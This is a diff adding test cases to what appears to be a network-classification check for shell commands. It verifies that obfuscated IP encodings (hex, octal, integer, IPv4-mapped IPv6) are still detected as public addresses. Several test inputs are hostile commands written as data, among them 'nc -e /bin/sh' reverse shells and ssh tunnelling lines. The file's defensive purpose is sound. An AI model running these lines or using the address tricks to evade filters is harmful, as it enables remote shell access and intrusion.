@@ -37,15 +37,45 @@ t.test('versions, names and non-addresses name no network', async (t) => {
     'echo 999.1.2.3',
     'echo 1.2.3.4.5',
     'ssh db.internal',
+    'npm i lodash@4.17.21',
+    'date -d @1767225600',
+    'java -Dversion=34.1.2.3 -jar app.jar',
+    'echo std::string Foo::Bar',
+    'ip -6 addr add fd00::1/64 dev eth0',
+    'ip link set eth0 address aa:bb:cc:dd:ee:ff',
+    'devmem 0xfe000000',
+    'curl http://[::1]:8080/',
     'psql -U postgres -c select 1',
     '',
   ])
     t.same(argumentNetworks(line), [], line);
 });
 
+t.test('an address written as inet_aton and curl also read it, or in IPv6', async (t) => {
+  // ping, ssh, nc (getaddrinfo's inet_aton) and curl (its URL parser) reach 203.0.113.9 by each
+  for (const line of [
+    'nc -e /bin/sh 0xcb.0.113.9 4444',
+    'nc -e /bin/sh 203.0.113.011 4444',
+    'ssh -R 9000:localhost:22 u@0313.0.0161.011',
+    'curl -sI https://3405803785/health',
+    'curl -sI https://3405803785./health',
+    'curl -sI http://0xcb007109/x',
+    'curl -sI https://203.0.29961/x',
+    'curl -sI https://u:p@203.7369:8443/x',
+    'curl -sI https://[::ffff:cb00:7109]/x',
+    'curl -sI https://[2001:4860:4860::8888]:443/x',
+    'ssh -D 1080 -N u@2a00:1450:4001:81b::200e',
+    'ping6 -c1 ::ffff:203.0.113.9',
+    'ping6 -c1 0:0:0:0:0:ffff:203.0.113.9',
+    'ping6 -c1 2a00:1450:4001:81b:0:0:0:200e',
+  ])
+    t.same(argumentNetworks(line), ['public'], line);
+  t.same(argumentNetworks('curl http://0x7f.1/ http://2130706433/'), [], 'this host, written so');
+});
+
 t.test('a hostile command line costs a bounded head of it', async (t) => {
   const many = Array.from({ length: 20 }, (_, i) => `10.0.${i}.1`).join(' ');
-  t.same(argumentNetworks(`${many} 198.51.100.1`), [], 'addresses past the bound are not read');
+  t.same(argumentNetworks(`nc -e /bin/sh ${many} 198.51.100.1 4444`), ['public'], 'private addresses before it do not hide a public one');
   t.same(argumentNetworks(`${Array.from({ length: 100_000 }, () => '10.0.0.1').join(' ')} 198.51.100.1`), [], 'nor a line of them');
   t.same(argumentNetworks(`${'x'.repeat(5000)} 198.51.100.1`), [], 'nor past the head');
 });
